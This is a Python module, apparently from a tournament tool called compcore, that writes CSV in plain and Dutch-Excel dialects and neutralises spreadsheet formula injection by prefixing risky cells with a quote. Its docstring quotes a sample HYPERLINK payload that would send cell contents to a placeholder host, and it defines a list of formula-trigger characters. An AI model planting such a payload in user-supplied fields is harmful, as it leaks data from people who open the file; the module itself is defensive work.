"""CSV text that a spreadsheet opens as data, never as formulas (every CSV compcore writes).

Two dialects:

- **plain** (the default; ``compcore standings --format csv``, the app's "CSV" buttons):
  comma-separated, decimal point, ``\\n`` line ends, UTF-8 without a byte order mark:
  for programs (pandas, R, a script).
- **Excel** (``--excel``, the app's "Excel" buttons): the CSV that Excel opens in one go as
  the Dutch use it: ``;`` separated (Excel with Dutch regional settings splits a ``.csv`` at
  the list separator ``;``, since ``,`` is its decimal separator), decimal comma
  (``123,5``), CRLF line ends (RFC 4180) and UTF-8 with a byte order mark, without which
  Excel reads the file as Windows-1252 (``Björn`` becomes ``BjÃ¶rn``). The caller writes
  its numbers with the decimal comma (:func:`compcore.present.reports.decimal` with
  ``"nl"``); this module only separates, quotes and encodes.

A player named ``=HYPERLINK("http://host/?"&A1, "klik")`` or ``@SUM(...)`` would run as a
formula when the director opens the standings or the pairing sheet in a spreadsheet. OWASP's
advice ("CSV Injection"): a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return gets a single quote in front, which spreadsheets show as text. Here also:
a line feed first; the full-width forms Excel reads as the ASCII ones in East Asian
input (``＝`` U+FF1D, ``＋`` U+FF0B, ``－`` U+FF0D, ``＠`` U+FF20) and their small forms
(``﹦ ﹢ ﹣ ﹫``); and any of these behind leading blanks (``" =1+1"``: spreadsheets skip
the spaces and read the formula). Plain numbers ("-1", "+2", "12.5", "-0,5") are left as
they are: they are no formula and must stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

#: What makes a spreadsheet read a cell as a formula: OWASP's = + - @ tab CR, a line feed,
#: and the full-width and small forms of = + - @.
FORMULA_STARTS = (
    "=", "+", "-", "@", "\t", "\r", "\n",
    "\uff1d", "\uff0b", "\uff0d", "\uff20",  # ＝ ＋ － ＠
    "\ufe66", "\ufe62", "\ufe63", "\ufe6b",  # ﹦ ﹢ ﹣ ﹫
)  # fmt: skip
#: blanks a spreadsheet skips before it looks for a formula (space, no-break space, the
#: ideographic space, and the control characters above)
_BLANKS = " \u00a0\u3000\t\r\n"
_PLAIN_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?$")

#: the byte order mark that tells Excel the file is UTF-8
BOM = "\ufeff"


def neutral_cell(value: object) -> str:
    """``value`` as a cell's text, with a leading ``'`` when a spreadsheet would otherwise
    read it as a formula: it starts with one of :data:`FORMULA_STARTS`, also after blanks,
    and is not a plain number."""
    text = "" if value is None else str(value)
    if text.startswith(("\t", "\r", "\n")):
        return "'" + text
    bare = text.lstrip(_BLANKS)
    if bare.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(bare):
        return "'" + text
    return text


def csv_text(rows: Iterable[Sequence[object]], *, excel: bool = False) -> str:
    """The rows as CSV, every cell :func:`neutral_cell`: comma-separated with ``\\n`` line
    ends, or with ``excel`` ``;``-separated with CRLF line ends (see the module).

    The csv module quotes a cell holding the line end ``\\n`` but not a lone ``\\r``, which
    readers take as a line end too: a row with either is written with every cell quoted."""
    buf = io.StringIO()
    sep, end = (";", "\r\n") if excel else (",", "\n")
    plain = csv.writer(buf, delimiter=sep, lineterminator=end)
    quoted = csv.writer(buf, delimiter=sep, lineterminator=end, quoting=csv.QUOTE_ALL)
    for row in rows:
        cells = [neutral_cell(cell) for cell in row]
        (quoted if any("\r" in c or "\n" in c for c in cells) else plain).writerow(cells)
    return buf.getvalue()


def csv_bytes(text: str, *, excel: bool = False) -> bytes:
    """A :func:`csv_text` as the bytes of a file: UTF-8, with a byte order mark for Excel."""
    return ((BOM if excel else "") + text).encode("utf-8")
